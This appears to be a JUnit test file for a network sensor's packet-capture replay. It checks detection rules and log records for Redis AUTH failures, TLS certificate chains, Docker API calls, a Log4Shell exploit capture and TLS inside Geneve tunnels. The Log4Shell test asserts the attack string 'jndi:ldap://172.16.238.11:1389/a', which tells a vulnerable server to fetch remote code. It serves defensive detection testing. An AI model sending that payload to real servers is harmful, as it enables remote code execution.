package io.crowsnest.sensor.replay;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.crowsnest.sensor.SharedData;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 5: app-layer facts of real captures are visible in EVE and matchable by rules of our own — Redis
 * AUTH failures, Docker API calls over HTTP, and the TLS SNI (and JA4) inside a Geneve tunnel.
 */
class AppLayerOwnRulesTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    static List<JsonNode> replay(String capture, String rules, boolean midstream, Path dir) throws IOException {
        Path rf = dir.resolve("own.rules");
        Files.writeString(rf, rules);
        ReplayOptions o = new ReplayOptions();
        o.files.add(SharedData.shared().resolve("pcaps-external").resolve(capture));
        o.ruleFiles.add(rf);
        o.defaultRules = false;
        o.midstream = midstream;
        o.eveTypes.addAll(List.of("http", "tls", "redis"));
        o.outDir = dir.resolve("out");
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        ReplayResult r = new ReplayRunner(o, new PrintStream(err, true, StandardCharsets.UTF_8)).run();
        assertEquals(0, r.exitCode, () -> "replay failed: " + err);
        assertTrue(r.ruleErrors.isEmpty(), () -> "rules must load: " + r.ruleErrors);
        List<JsonNode> events = new ArrayList<>();
        for (String line : Files.readAllLines(o.outDir.resolve("eve.json"))) {
            events.add(JSON.readTree(line));
        }
        return events;
    }

    static long alerts(List<JsonNode> ev, long sid) {
        return ev.stream().filter(e -> "alert".equals(e.path("event_type").asText())
                && e.path("alert").path("signature_id").asLong() == sid).count();
    }

    @Test
    void redisAuthFailuresAreRecordsAndRuleMatches(@TempDir Path dir) throws IOException {
        List<JsonNode> ev = replay("container-api/zeek-redis-auth.pcap",
                "alert redis any any -> any any (msg:\"redis AUTH\"; redis.command; content:\"AUTH \"; nocase; startswith; sid:1;)\n",
                true, dir);
        assertEquals(3, alerts(ev, 1), "three AUTH commands in the capture");
        long failures = ev.stream().filter(e -> "redis".equals(e.path("event_type").asText())
                && e.path("redis").path("command").asText().startsWith("AUTH")
                && e.path("redis").path("error").asText().startsWith("-WRONGPASS")).count();
        assertEquals(2, failures, "two of them fail with WRONGPASS");
    }

    @Test
    void tlsCertsRulesSeeEveryCertificateOfTheServersChain(@TempDir Path dir) throws IOException {
        // Chrome 34 to google.de, TLS 1.2: leaf *.google.de issued by Google Internet Authority G2, then G2
        // itself, issued by GeoTrust Global CA (a name only the second certificate holds)
        List<JsonNode> ev = replay("normal/zeek-tls-chrome-34-google.pcap",
                "alert tls any any -> any any (msg:\"leaf\"; flow:established,to_client; tls.certs; "
                        + "content:\"*.google.de\"; sid:11;)\n"
                        + "alert tls any any -> any any (msg:\"chain\"; flow:established,to_client; tls.certs; "
                        + "content:\"GeoTrust Global CA\"; sid:12;)\n"
                        + "alert tls any any -> any any (msg:\"first only\"; tls.cert_issuer; content:\"GeoTrust\"; sid:13;)\n"
                        + "alert tls any any -> any any (msg:\"version\"; flow:to_client; tls.version:1.2; sid:14;)\n"
                        + "alert tls any any -> any any (msg:\"no such cert\"; tls.certs; content:\"Let's Encrypt\"; sid:15;)\n"
                        + "alert tls any any -> any any (msg:\"valid\"; tls_cert_valid; sid:16;)\n"
                        + "alert tls any any -> any any (msg:\"expired\"; tls_cert_expired; sid:17;)\n"
                        + "alert tls any any -> any any (msg:\"2014 cert\"; tls_cert_notbefore:2014-01-01<>2014-12-31; sid:18;)\n",
                false, dir);
        assertEquals(1, alerts(ev, 11));
        assertEquals(1, alerts(ev, 12), "the intermediate certificate is inspected too");
        assertEquals(0, alerts(ev, 13), "tls.cert_issuer is the leaf's issuer only");
        assertEquals(1, alerts(ev, 14));
        assertEquals(0, alerts(ev, 15));
        assertEquals(1, alerts(ev, 16), "valid on the capture's date (April 2014)");
        assertEquals(0, alerts(ev, 17));
        assertEquals(1, alerts(ev, 18));
    }

    @Test
    void dockerApiCallsOverHttpMatchOnTheUri(@TempDir Path dir) throws IOException {
        List<JsonNode> ev = replay("container-api/zeek-docker-http-upgrade.pcap",
                "alert http any any -> any any (msg:\"docker api\"; http.uri; content:\"/containers/\"; sid:2;)\n",
                false, dir);
        assertEquals(5, alerts(ev, 2));
        assertTrue(ev.stream().anyMatch(e -> "http".equals(e.path("event_type").asText())
                && e.path("http").path("url").asText().contains("/containers/")), "http records name the call");
    }

    @Test
    void requestWithoutResponseIsLoggedWhenItsFlowEndsAndRecordsRunClientToServer(@TempDir Path dir) throws IOException {
        // nDPI's Log4Shell capture: the POST carrying the attack never gets its response in the capture
        List<JsonNode> ev = replay("log4shell/ndpi-log4j-webapp-exploit.pcap", "", false, dir);
        List<JsonNode> http = ev.stream().filter(e -> "http".equals(e.path("event_type").asText())).toList();
        JsonNode post = http.stream().filter(e -> e.path("http").path("url").asText().equals("/log4shell/login"))
                .findFirst().orElseThrow(() -> new AssertionError("no record of the POST: " + http));
        assertEquals("POST", post.path("http").path("http_method").asText());
        assertEquals("jndi:ldap://172.16.238.11:1389/a", post.path("http").path("http_user_agent").asText());
        assertEquals("172.16.238.1", post.path("src_ip").asText());
        assertEquals(8080, post.path("dest_port").asInt());
        // completed exchanges too name the client as src, whichever packet completed them (Suricata's flow direction)
        assertEquals(3, http.size());
        for (JsonNode h : http) {
            assertTrue(h.path("dest_port").asInt() == 80 || h.path("dest_port").asInt() == 8080, h.toString());
        }
    }

    @Test
    void tlsSniAndJa4InsideGeneve(@TempDir Path dir) throws IOException {
        List<JsonNode> ev = replay("geneve/zeek-geneve-47101.pcap",
                "alert tls any any -> any any (msg:\"kernel.org\"; tls.sni; content:\"www.kernel.org\"; endswith; sid:3;)\n"
                        + "alert tls any any -> any any (msg:\"ja4\"; ja4.hash; content:\"t13d\"; startswith; sid:4;)\n",
                false, dir);
        assertEquals(1, alerts(ev, 3));
        assertEquals(1, alerts(ev, 4));
        JsonNode a = ev.stream().filter(e -> "alert".equals(e.path("event_type").asText())).findFirst().orElseThrow();
        assertEquals("Geneve", a.path("tunnel").path("type").asText());
        assertEquals("www.kernel.org", a.path("tls").path("sni").asText());
        assertTrue(a.path("tls").path("ja4").asText().matches("t13d\\d{4}[0-9a-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}"),
                a.path("tls").toString());
    }
}
